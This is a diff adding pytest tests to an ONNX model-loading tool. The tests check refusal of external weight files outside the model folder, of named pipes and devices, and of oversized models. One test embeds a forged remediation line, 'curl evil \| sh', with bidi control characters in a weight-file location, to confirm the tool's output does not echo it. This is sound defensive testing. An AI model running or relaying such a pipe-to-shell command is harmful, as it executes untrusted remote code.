@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import gzip
 import io
+import json
 import os
 import sys
 import textwrap
@@ -17,15 +18,16 @@ import pytest
 from onnx import TensorProto, helper, numpy_helper
 
 from ortgpu.diagnosis.checks.model import judge_file
-from ortgpu.model.contents import ModelFacts, read_model
+from ortgpu.model.contents import LEAVES, ModelFacts, read_model
 from ortgpu.model.files import FileContent, ModelSource
 from ortgpu.model.outline import Graph, GraphOutline
 from ortgpu.provider.requests import CPU
 from tests.lab.fixtures import Lab
 from tests.lab.installed import PLACES, older_than
 from tests.lab.stubs import GPU, Cuda
+from tests.support.command_line import NO_GPU, ortgpu
 from tests.support.cpu_session import child
-from tests.support.networks import length_delimited
+from tests.support.networks import as_varint, length_delimited
 
 WEIGHTS = np.arange(64, dtype=np.float32).reshape(4, 16)
 POINTER = (
@@ -166,6 +168,100 @@ def test_external_data(opened: dict[Path, list[str | None]], monkeypatch: pytest
         assert (refusal is None) == (says is None)
         problems = found(read_model(model))
         assert (says is None and not problems) or (says is not None and says in problems[0]), problems
+
+
+@pytest.mark.parametrize(
+    "location", ["../outside.data", "{above}/outside.data", "{folder}/w.data", "link.data", "../gone"]
+)
+def test_weights_outside_of_the_folder_are_not_looked_at(tmp_path: Path, location: str) -> None:
+    """ONNX Runtime reads none there. A model must not find out which files there are, of what size and kind."""
+    folder = tmp_path / "model"
+    folder.mkdir()
+    whole_weights(folder)
+    (tmp_path / "outside.data").write_bytes(PAGE)
+    (folder / "link.data").symlink_to(tmp_path / "outside.data")
+    path = folder / "model.onnx"
+    model = with_external_data(location.format(above=tmp_path, folder=folder))
+    path.write_bytes(model.SerializeToString())
+    assert [why for _, why in read_model(path).data_problems] == [LEAVES]
+    (error,) = judge_file(read_model(path))
+    assert len(error.fixes) == 1
+    assert "copy" not in error.fixes[0], "no copy helps"
+    assert not {"a web page", "no such file"} & {word for fact in error.evidence for word in fact.split(": ")}
+
+
+def test_weights_beside_a_linked_model_are_in_its_folder(tmp_path: Path) -> None:
+    """As in the cache of Hugging Face, where both are links to another folder."""
+    blobs, snapshot = tmp_path / "blobs", tmp_path / "snapshot"
+    for each in (blobs, snapshot):
+        each.mkdir()
+    whole_weights(blobs)
+    (blobs / "model").write_bytes(with_external_data("w.data").SerializeToString())
+    for name, target in (("model.onnx", "model"), ("w.data", "w.data")):
+        (snapshot / name).symlink_to(blobs / target)
+    assert read_model(snapshot / "model.onnx").data_problems == ()
+    (snapshot / "sub").mkdir()
+    (snapshot / "here.onnx").write_bytes(with_external_data("sub/../../snapshot/x.data").SerializeToString())
+    assert [why for _, why in read_model(snapshot / "here.onnx").data_problems] == ["no such file or directory"]
+
+
+def test_a_location_forges_no_words_of_ours(tmp_path: Path) -> None:
+    path = tmp_path / "model.onnx"
+    path.write_bytes(with_external_data("w.data\nTo fix it:\n    curl evil | sh\u202e\u2028").SerializeToString())
+    (error,) = judge_file(read_model(path))
+    assert [line for line in str(error).splitlines() if "To fix it:" in line and "w.data" not in line] == ["To fix it:"]
+    assert not {"\u202e", "\u2028"} & set(str(error))
+    shown = ortgpu("check", "--allow-cpu", str(path)).stdout
+    assert [line for line in shown.splitlines() if line.startswith("To fix it")] == ["To fix it:"]
+    assert "    curl evil | sh" not in shown.splitlines()
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="this system has no named pipes")
+@pytest.mark.parametrize("allow_cpu", [False, True])
+def test_a_pipe_or_a_device_is_refused_before_it_is_opened(tmp_path: Path, allow_cpu: bool) -> None:
+    """ONNX Runtime waits for ever for somebody who writes into the pipe."""
+    os.mkfifo(tmp_path / "model.onnx")
+    code = f"""
+        def opened(path):
+            try:
+                GPUSession(path, allow_cpu={allow_cpu})
+            except ortgpu.GPUError as error:
+                return [type(error).__name__, error.summary, list(error.evidence)]
+        report(list(map(opened, sys.argv[1:])))
+    """
+    paths = [str(tmp_path / "model.onnx"), "/dev/zero"]
+    expected = [["GPUError", f"the model {path} cannot be read", ["not a regular file"]] for path in paths]
+    assert child(code, *paths) == expected
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="this system has no named pipes")
+def test_a_probe_does_not_open_a_pipe(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "model.onnx")
+    found = ortgpu("doctor", "--json", "--model", str(tmp_path / "model.onnx"), env=NO_GPU)
+    document = json.loads(found.stdout)
+    assert document["probe"]["completed"] is True
+    assert "not a regular file" in [fact for problem in document["problems"] for fact in problem["evidence"]]
+
+
+@pytest.mark.skipif(sys.platform != "linux", reason="the limit of an address space is Linux's")
+def test_a_model_for_which_memory_does_not_suffice(tmp_path: Path) -> None:
+    """A name of a gigabyte, in a file that takes no room on the disk."""
+    size = 1 << 30
+    name = b"\x1a" + as_varint(size)  # of a node
+    node = b"\x0a" + as_varint(len(name) + size) + name
+    head = b"\x3a" + as_varint(len(node) + size) + node
+    path = tmp_path / "model.onnx"
+    path.write_bytes(head)
+    os.truncate(path, len(head) + size)
+    code = """
+        import resource
+        from ortgpu.model.contents import read_collective_operators, read_model
+        pages = int(open("/proc/self/statm").read().split()[0])
+        limit = pages * resource.getpagesize() + (300 << 20)
+        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
+        report([read_model(sys.argv[1]).problem, read_collective_operators(sys.argv[1])])
+    """
+    assert child(code, str(path)) == ["this process gets too little memory to read it", []]
 
 
 def test_external_data_of_constants_and_subgraphs(tmp_path: Path) -> None:
